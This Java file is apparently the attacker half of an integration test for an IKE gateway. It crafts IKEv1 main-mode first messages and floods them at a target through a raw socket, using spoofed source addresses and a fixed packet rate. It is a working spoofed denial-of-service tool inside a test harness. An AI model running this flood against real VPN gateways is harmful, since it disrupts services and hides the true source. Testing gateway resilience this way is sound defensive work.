package dev.coati.interop;

import java.lang.foreign.Arena;
import java.lang.foreign.FunctionDescriptor;
import java.lang.foreign.Linker;
import java.lang.foreign.MemorySegment;
import java.lang.foreign.ValueLayout;
import java.lang.invoke.MethodHandle;
import java.nio.ByteBuffer;
import java.nio.ByteOrder;
import java.util.SplittableRandom;
import java.util.concurrent.locks.LockSupport;

/**
 * The attacker of {@code HalfOpenFloodIT}: main mode first messages from spoofed sources, sent
 * through a raw IPv4 socket ({@code IPPROTO_RAW}, so we write the IP header and its source) at a
 * fixed rate for a fixed time. Run as its own JVM inside the attacker namespace: {@code SpoofFlood
 * DST SRC_PREFIX16 RATE SECONDS}, e.g. {@code 10.97.0.1 10.77 10000 20}. Each message has a fresh
 * initiator cookie and a source address drawn from {@code SRC_PREFIX16.0.0/16}. Prints how many it
 * sent and how many bytes of IKE that was.
 */
public final class SpoofFlood {
  private SpoofFlood() {}

  /**
   * A main mode first message: one transform, aes256-sha256-modp2048, PSK + Xauth (65001, what a
   * remote-access gateway answers with its second message; plain PSK it refuses at once) (84
   * bytes).
   */
  static byte[] mainModeFirst(long icookie) {
    ByteBuffer b = ByteBuffer.allocate(84);
    b.putLong(icookie).putLong(0); // cookies
    b.put((byte) 1).put((byte) 0x10).put((byte) 2).put((byte) 0); // SA, v1.0, main mode, flags
    b.putInt(0).putInt(84); // message id, length
    b.put((byte) 0).put((byte) 0).putShort((short) 56).putInt(1).putInt(1); // SA: DOI, situation
    b.put((byte) 0).put((byte) 0).putShort((short) 44); // proposal payload
    b.put((byte) 1).put((byte) 1).put((byte) 0).put((byte) 1); // #1, ISAKMP, no SPI, 1 transform
    b.put((byte) 0).put((byte) 0).putShort((short) 36); // transform payload
    b.put((byte) 1).put((byte) 1).putShort((short) 0); // #1, KEY_IKE
    int[][] attrs = {{1, 7}, {14, 256}, {2, 4}, {3, 65001}, {4, 14}, {11, 1}, {12, 28800}};
    for (int[] a : attrs) {
      b.putShort((short) (0x8000 | a[0])).putShort((short) a[1]);
    }
    return b.array();
  }

  /** IPv4 header (checksum and ID left to the kernel) + UDP 500 -> 500 (no checksum) + IKE. */
  static int packet(byte[] out, int src, int dst, byte[] ike) {
    int len = 20 + 8 + ike.length;
    ByteBuffer b = ByteBuffer.wrap(out);
    b.put((byte) 0x45).put((byte) 0).putShort((short) len).putShort((short) 0).putShort((short) 0);
    b.put((byte) 64).put((byte) 17).putShort((short) 0).putInt(src).putInt(dst);
    b.putShort((short) 500).putShort((short) 500).putShort((short) (8 + ike.length));
    b.putShort((short) 0).put(ike);
    return len;
  }

  static int ipv4(String dotted) {
    int v = 0;
    for (String p : dotted.split("\\.")) {
      v = v << 8 | Integer.parseInt(p);
    }
    return v;
  }

  public static void main(String[] args) throws Throwable {
    int dst = ipv4(args[0]);
    int prefix = ipv4(args[1] + ".0.0");
    int rate = Integer.parseInt(args[2]);
    int seconds = Integer.parseInt(args[3]);
    Linker linker = Linker.nativeLinker();
    MethodHandle socket =
        linker.downcallHandle(
            linker.defaultLookup().find("socket").orElseThrow(),
            FunctionDescriptor.of(
                ValueLayout.JAVA_INT,
                ValueLayout.JAVA_INT,
                ValueLayout.JAVA_INT,
                ValueLayout.JAVA_INT));
    MethodHandle sendto =
        linker.downcallHandle(
            linker.defaultLookup().find("sendto").orElseThrow(),
            FunctionDescriptor.of(
                ValueLayout.JAVA_LONG,
                ValueLayout.JAVA_INT,
                ValueLayout.ADDRESS,
                ValueLayout.JAVA_LONG,
                ValueLayout.JAVA_INT,
                ValueLayout.ADDRESS,
                ValueLayout.JAVA_INT));
    int fd = (int) socket.invokeExact(2, 3, 255); // AF_INET, SOCK_RAW, IPPROTO_RAW
    if (fd < 0) {
      throw new IllegalStateException("raw socket refused (needs CAP_NET_RAW)");
    }
    SplittableRandom random = new SplittableRandom(13);
    long sent = 0;
    long bytes = 0;
    long failed = 0;
    try (Arena arena = Arena.ofConfined()) {
      MemorySegment buf = arena.allocate(256);
      MemorySegment to = arena.allocate(16);
      to.set(ValueLayout.JAVA_SHORT, 0, (short) 2);
      to.set(ValueLayout.JAVA_INT_UNALIGNED.withOrder(ByteOrder.BIG_ENDIAN), 4, dst);
      byte[] pkt = new byte[256];
      long start = System.nanoTime();
      long total = (long) rate * seconds;
      int batch = Math.max(1, rate / 1000); // one batch a millisecond
      while (sent + failed < total) {
        for (int i = 0; i < batch; i++) {
          int src = prefix | (1 + random.nextInt(65533));
          byte[] ike = mainModeFirst(random.nextLong() | 1);
          int len = packet(pkt, src, dst, ike);
          MemorySegment.copy(pkt, 0, buf, ValueLayout.JAVA_BYTE, 0, len);
          long n = (long) sendto.invokeExact(fd, buf, (long) len, 0, to, 16);
          if (n == len) {
            sent++;
            bytes += ike.length;
          } else {
            failed++;
          }
        }
        long due = start + (sent + failed) * 1_000_000_000L / rate;
        long wait = due - System.nanoTime();
        if (wait > 0) {
          LockSupport.parkNanos(wait);
        }
      }
      double secs = (System.nanoTime() - start) / 1e9;
      System.out.printf("sent %d ike-bytes %d failed %d seconds %.2f%n", sent, bytes, failed, secs);
    }
  }
}
